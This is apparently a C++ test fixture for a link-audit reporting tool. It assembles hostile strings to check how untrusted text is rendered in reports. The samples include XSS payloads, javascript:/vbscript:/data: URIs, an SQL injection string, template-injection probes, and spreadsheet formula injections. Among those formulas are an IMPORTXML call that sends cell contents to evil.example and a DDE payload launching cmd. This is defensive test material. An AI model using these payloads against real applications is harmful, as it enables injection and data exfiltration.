// What strangers may have written, in every place of a desk's report.
#include <algorithm>

#include "tests/reports/desk_samples.h"
#include "tests/reports/samples.h"

namespace linkaudit::reports::samples {

std::vector<std::string> desk_hostile_texts() {
  std::vector<std::string> texts = hostile_texts();
  const std::vector<std::string> more = {
      "[click](http://evil.example/)",
      "![x](http://evil.example/x.png)",
      "[a]: http://evil.example/ \"t\"",
      "[ref][a] [a]",
      "<http://evil.example/>",
      "http://evil.example/?a=1&b=2#c",
      "see www.evil.example now",
      "WWW.EVIL.EXAMPLE",
      "ftp://evil.example/",
      "someone@evil.example",
      "@everyone @here <!channel> <@U123>",
      "<at id=all></at>",
      "#123 and GH-1",
      ":smile: :+1:",
      "**bold** __bold__ *it* _it_",
      "~~gone~~",
      "`code` ``two`` ```",
      "```js\nalert(1)\n```",
      "$$x^2$$ $y$",
      "# heading",
      "heading #",
      "heading\n=======",
      "---",
      "- item",
      "* item",
      "1. item",
      "12) item",
      "> quote",
      "    indented",
      "| a | b |\n| --- | --- |",
      "a | b || c \\| d",
      "ends in a backslash \\",
      "<!-- comment -->",
      "<details><summary>x</summary>",
      "<b onmouseover=alert(1)>b</b>",
      "&lt;script&gt; &#60; &#x3c; &copy;",
      "[x] [ ] done",
      "[^1] footnote",
      "{{7*7}} <%= 7*7 %> {% x %}",
      "'; DROP TABLE entry; --",
      "data:text/html,<script>alert(1)</script>",
      "vbscript:msgbox(1)",
      "JaVaScRiPt:alert(1)",
      "\";=1+1",
      "a\r=1+1",
      "\n=1+1",
      "\xE2\x88\x92"
      "1+1",
      "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
      "DDE(\"cmd\";\"/C calc\";\"x\")",
      "</script><script>alert(1)</script>",
      "</title></textarea></xmp><b>",
      "<svg><style><!--</style><img src=x onerror=alert(1)>",
      "\xC3\x28 bad byte",
      "\xF0\x9F\x98",
  };
  texts.insert(texts.end(), more.begin(), more.end());
  return texts;
}

Report desk_hostile() {
  Report r = hostile();
  Table texts = r.tables[0];
  texts.entry_by = "number";
  std::vector<Row> rows;
  const auto all = desk_hostile_texts();
  for (std::size_t i = 0; i < all.size(); ++i) {
    rows.push_back({static_cast<std::int64_t>(i), all[i], Badge{all[i], all[i], "=", Tone::notice}});
  }
  texts.rows = rows_of(rows);
  r.tables = {texts};
  r.order.clear();
  for (std::size_t begin = 0; begin < rows.size(); begin += 20) {
    texts.id = "breaches";
    texts.entry_by.clear();
    texts.rows = rows_of({rows.begin() + static_cast<std::ptrdiff_t>(begin),
                          rows.begin() + static_cast<std::ptrdiff_t>(std::min(begin + 20, rows.size()))});
    r.tables.push_back(texts);
  }
  const std::string odd = "=1+1 <script>alert(1)</script> | [a](http://evil.example) \xFF\u202E \"q\" {0}";
  r.timeline = Timeline{odd, odd, odd, desk_test() - std::chrono::hours(99), desk_test(), {{desk_test(), odd}}, {}, {}};
  r.timeline->legend = {{odd, odd, "<", Tone::bad}};
  r.timeline->groups = {
      {odd, {{odd, "<", {{desk_test() - std::chrono::hours(9), desk_test(), r.timeline->legend[0], odd, 3}}}}}};
  r.logo = odd;
  return r;
}

}  // namespace linkaudit::reports::samples
